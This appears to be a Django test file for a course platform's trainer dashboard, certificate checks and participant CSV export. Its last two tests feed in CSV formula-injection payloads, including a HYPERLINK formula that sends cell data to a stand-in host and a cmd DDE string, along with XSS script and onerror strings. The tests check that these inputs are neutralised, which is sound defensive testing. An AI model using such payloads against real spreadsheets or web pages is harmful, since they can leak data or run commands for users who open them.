"""A trainer's dashboard of a session, its CSV, and completions recorded after a workshop."""

import csv
import io

import pytest

from django.http import QueryDict

from courses.knowledge_check import grade
from courses.models import CompletionTally, CourseCompletion
from courses.tracking import complete_lesson, enrol, record_check
from tests.courses.conftest import RIGHT, make_learner, make_training_session, route
from tests.courses.conftest import join as join_training_session

pytestmark = pytest.mark.django_db

NOTE = "Attended both days of the Amman workshop."


def pass_check(user, tree, language="en"):
    answers = QueryDict(mutable=True)
    answers.update(RIGHT)
    return record_check(user, tree.check, grade(tree.check, answers), language)


def finish(user, tree, language="en"):
    complete_lesson(user, tree.reading, language)
    pass_check(user, tree, language)
    return complete_lesson(user, tree.last, language)


@pytest.fixture
def session(tree, trainer, other_trainer):
    """A session with four participants at four stages, and people who are not in it."""
    training_session = make_training_session(trainer, tree.course)
    done = make_learner(full_name="Nadia Karimi", organisation="Border Directorate")
    halfway = make_learner(full_name="Tomás Villalobos", country="Chile")
    workshop = make_learner(full_name="Awa Ndiaye", country="Senegal")
    idle = make_learner(full_name="Mehmet Aydın", country="Türkiye")
    for user in (done, halfway, workshop, idle):
        join_training_session(user, training_session)
    finish(done, tree)
    complete_lesson(halfway, tree.reading, "en")
    pass_check(halfway, tree)
    complete_lesson(workshop, tree.reading, "en")
    # Not in this session: a learner of the same course on their own, and another
    # trainer's participant.
    loner = make_learner(full_name="Lone Learner")
    enrol(loner, tree.course, "en")
    theirs = make_learner(full_name="Their Participant")
    join_training_session(
        theirs, make_training_session(other_trainer, tree.course, name="Their session")
    )
    training_session.invitations.create(email="not.yet@example.org")
    training_session.invitations.create(email=halfway.email)
    return training_session, {"done": done, "halfway": halfway, "workshop": workshop, "idle": idle}


def rows_of(html):
    body = html.split('<table class="participants" role="table">', 1)[1].split("</table>", 1)[0]
    return body.split('<tr role="row" class="participant')[1:]


def row_for(html, name):
    return next(row for row in rows_of(html) if name in row)


def test_the_dashboard_shows_each_participant_and_only_them(client, tree, trainer, session):
    training_session, people = session
    client.force_login(trainer)

    response = client.get(f"/en/training/{training_session.pk}/")

    html = response.content.decode()
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    assert len(rows_of(html)) == 4
    assert "{#" not in html and "{% comment" not in html
    for outsider in ("Lone Learner", "Their Participant"):
        assert outsider not in html
    assert "1 of 4 participants completed the course (25%)." in html
    done = row_for(html, "Nadia Karimi")
    assert ">Border Directorate</td>" in done
    assert ">3 of 3</td>" in done  # lessons
    assert ">1 of 1</td>" in done  # knowledge checks
    assert "Completed online on" in done
    halfway = row_for(html, "Tomás Villalobos")
    assert ">Chile</td>" in halfway and ">2 of 3</td>" in halfway
    assert ">1 of 1</td>" in halfway and "Not yet" in halfway
    idle = row_for(html, "Mehmet Aydın")
    assert ">0 of 3</td>" in idle and ">0 of 1</td>" in idle
    assert people["idle"].email in idle
    # Invited, not joined: the address that has no participant yet.
    invited = html.split('id="invited-heading"', 1)[1]
    assert "<li>not.yet@example.org</li>" in invited
    assert people["halfway"].email not in invited


def test_recording_a_workshop_completion_shows_it_as_trainer_recorded(
    client, tree, trainer, session
):
    training_session, people = session
    training_session.language = "fr"
    training_session.save()
    client.force_login(trainer)

    form = client.get(f"/en/training/{training_session.pk}/record/").content.decode()
    assert "Awa Ndiaye" in form and "Mehmet Aydın" in form
    assert "Nadia Karimi" not in form  # completed already: not offered

    response = client.post(
        f"/en/training/{training_session.pk}/record/",
        {"participants": [people["workshop"].pk], "note": NOTE},
        follow=True,
    )

    html = response.content.decode()
    assert "Completion recorded for 1 participant." in html
    completion = CourseCompletion.objects.get(user=people["workshop"])
    assert completion.how == CourseCompletion.TRAINER
    assert (completion.recorded_by, completion.note, completion.language) == (trainer, NOTE, "fr")
    assert CompletionTally.objects.get(course=tree.course, language="fr").count == 1
    row = row_for(html, "Awa Ndiaye")
    assert "Recorded by a trainer on" in row and "by Tessa Trainer" in row
    assert NOTE in row
    assert "Completed online" not in row
    assert "2 of 4 participants completed the course (50%)." in html
    assert "1 completion recorded by a trainer." in html

    # The participant sees who recorded it; the certificate and its check say so too.
    client.force_login(people["workshop"])
    course_html = client.get(tree.course.url).content.decode()
    assert "as recorded by your trainer." in course_html
    certificate = client.get(
        f"/en/learning/certificates/{completion.certificate_code}/"
    ).content.decode()
    assert "in a training session, as recorded by its trainer" in certificate
    verified = client.get(f"/en/certificates/verify/{completion.certificate_code}/")
    assert "<dt>How</dt><dd>Recorded by a trainer</dd>" in verified.content.decode()
    assert NOTE not in verified.content.decode()  # the note is not for the public


def test_a_self_completion_reads_completed_online_on_its_check(client, tree, trainer, session):
    _training_session, people = session
    completion = CourseCompletion.objects.get(user=people["done"])

    html = client.get(f"/en/certificates/verify/{completion.certificate_code}/").content.decode()

    assert "<dt>How</dt><dd>Completed online</dd>" in html


def test_a_later_self_completion_leaves_the_trainers_record(client, tree, trainer, session):
    training_session, people = session
    client.force_login(trainer)
    client.post(
        f"/en/training/{training_session.pk}/record/",
        {"participants": [people["halfway"].pk], "note": NOTE},
    )
    recorded = CourseCompletion.objects.get(user=people["halfway"])

    client.force_login(people["halfway"])
    response = client.post(route(tree.last, "complete"), follow=True)

    # The lesson counts, the course completion stays the trainer's record.
    assert "You have completed the course" not in response.content.decode()
    again = CourseCompletion.objects.get(user=people["halfway"])
    assert (again.pk, again.how, again.certificate_code, again.completed_at) == (
        recorded.pk,
        CourseCompletion.TRAINER,
        recorded.certificate_code,
        recorded.completed_at,
    )
    assert CompletionTally.objects.get(course=tree.course).count == 2  # done + halfway
    client.force_login(trainer)
    row = row_for(
        client.get(f"/en/training/{training_session.pk}/").content.decode(), "Tomás Villalobos"
    )
    assert ">3 of 3</td>" in row and "Recorded by a trainer on" in row


def test_recording_twice_or_for_a_self_completer_changes_nothing(client, tree, trainer, session):
    training_session, people = session
    client.force_login(trainer)
    url = f"/en/training/{training_session.pk}/record/"
    client.post(url, {"participants": [people["idle"].pk], "note": NOTE})

    # The same form sent again (a retry), with someone who completed online added.
    retry = client.post(
        url, {"participants": [people["idle"].pk, people["done"].pk], "note": "Again"}, follow=True
    )

    html = retry.content.decode()
    assert (
        "2 participants had completed the course already; their completions stay as they were."
        in html
    )
    assert CourseCompletion.objects.filter(user=people["idle"]).count() == 1
    assert CourseCompletion.objects.get(user=people["idle"]).note == NOTE
    assert CourseCompletion.objects.get(user=people["done"]).how == CourseCompletion.SELF
    assert CompletionTally.objects.get(course=tree.course).count == 2


def test_a_trainer_records_only_their_own_participants(
    client, tree, trainer, other_trainer, session
):
    training_session, _people = session
    stranger = make_learner(full_name="Not In The Session")
    enrol(stranger, tree.course, "en")
    client.force_login(trainer)

    response = client.post(
        f"/en/training/{training_session.pk}/record/", {"participants": [stranger.pk], "note": NOTE}
    )

    assert response.status_code == 200  # not a choice: the form refuses it
    assert "Select a valid choice" in response.content.decode()
    assert not CourseCompletion.objects.filter(user=stranger).exists()
    client.force_login(other_trainer)
    theirs = client.post(
        f"/en/training/{training_session.pk}/record/", {"participants": [stranger.pk], "note": NOTE}
    )
    assert theirs.status_code == 404


def test_a_note_is_required(client, tree, trainer, session):
    training_session, people = session
    client.force_login(trainer)

    response = client.post(
        f"/en/training/{training_session.pk}/record/",
        {"participants": [people["idle"].pk], "note": ""},
    )

    assert response.status_code == 200
    assert "This field is required." in response.content.decode()
    assert not CourseCompletion.objects.filter(user=people["idle"]).exists()


def read_csv(response):
    text = b"".join(response).decode("utf-8")
    assert text.startswith("\ufeff")  # Excel then reads Arabic and accents right
    return list(csv.reader(io.StringIO(text[1:])))


def test_the_csv_export_has_every_participant_and_their_progress(client, tree, trainer, session):
    training_session, people = session
    client.force_login(trainer)
    client.post(
        f"/en/training/{training_session.pk}/record/",
        {"participants": [people["workshop"].pk], "note": NOTE},
    )

    response = client.get(f"/en/training/{training_session.pk}/participants.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert (
        f'filename="training-session-{training_session.pk}-participants.csv"'
        in (response["Content-Disposition"])
    )
    assert response["Cache-Control"] == "private, no-store"
    header, *rows = read_csv(response)
    assert header[:9] == [
        "Name",
        "Email address",
        "Organisation",
        "Country",
        "Lessons done",
        "Lessons required",
        "Knowledge checks passed",
        "Knowledge checks",
        "Completed",
    ]
    by_name = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert sorted(by_name) == ["Awa Ndiaye", "Mehmet Aydın", "Nadia Karimi", "Tomás Villalobos"]
    assert by_name["Nadia Karimi"]["Completed"] == "yes"
    assert by_name["Nadia Karimi"]["How"] == "Completed online"
    assert by_name["Tomás Villalobos"]["Lessons done"] == "2"
    assert by_name["Tomás Villalobos"]["Completed"] == "no"
    workshop = by_name["Awa Ndiaye"]
    assert (workshop["How"], workshop["Recorded by"], workshop["Trainer's note"]) == (
        "Recorded by a trainer",
        "Tessa Trainer",
        NOTE,
    )
    assert workshop["Email address"] == people["workshop"].email
    assert workshop["Last activity"][:4].isdigit()


def test_the_csv_cannot_carry_a_formula(client, tree, trainer):
    training_session = make_training_session(trainer, tree.course)
    sly = make_learner(
        full_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        organisation="+cmd|' /C calc'!A0",
        country="-2+3",
    )
    join_training_session(sly, training_session)
    at = make_learner(full_name="@SUM(1+1)", organisation="\tTabbed", country="Plain")
    join_training_session(at, training_session)
    client.force_login(trainer)

    _header, *rows = read_csv(client.get(f"/en/training/{training_session.pk}/participants.csv"))

    cells = {cell for row in rows for cell in row}
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
    assert "'+cmd|' /C calc'!A0" in cells
    assert "'-2+3" in cells
    assert "'@SUM(1+1)" in cells
    assert "'\tTabbed" in cells
    assert "Plain" in cells  # ordinary text is left alone
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t") for cell in cells)


def test_free_text_is_escaped_on_every_trainer_page(client, tree, trainer):
    script = "<script>alert(1)</script>"
    training_session = make_training_session(
        trainer, tree.course, name=f"Session {script}", location=script
    )
    participant = make_learner(
        full_name='<img src=x onerror="alert(2)">', organisation=script, country="<b>X</b>"
    )
    join_training_session(participant, training_session)
    waiting = make_learner(full_name="Still Waiting")
    join_training_session(waiting, training_session)
    client.force_login(trainer)
    client.post(
        f"/en/training/{training_session.pk}/record/",
        {"participants": [participant.pk], "note": f"Great {script}\nsecond line"},
    )

    pages = {
        "list": client.get("/en/training/").content.decode(),
        "dashboard": client.get(f"/en/training/{training_session.pk}/").content.decode(),
        "record": client.get(f"/en/training/{training_session.pk}/record/").content.decode(),
        "edit": client.get(f"/en/training/{training_session.pk}/edit/").content.decode(),
    }
    client.force_login(participant)
    pages["course"] = client.get(tree.course.url).content.decode()
    client.force_login(make_learner(full_name="Someone"))
    pages["join"] = client.get(
        "/en/learning/join/", {"code": training_session.join_code}
    ).content.decode()

    for name, html in pages.items():
        assert script not in html, name
        assert "<img src=x" not in html and "<b>X</b>" not in html, name
    assert "Session &lt;script&gt;alert(1)&lt;/script&gt;" in pages["dashboard"]
    assert "&lt;img src=x onerror=&quot;alert(2)&quot;&gt;" in pages["dashboard"]
    assert "Great &lt;script&gt;alert(1)&lt;/script&gt;<br>second line" in pages["dashboard"]
    assert "Session &lt;script&gt;" in pages["join"] and "Session &lt;script&gt;" in pages["course"]
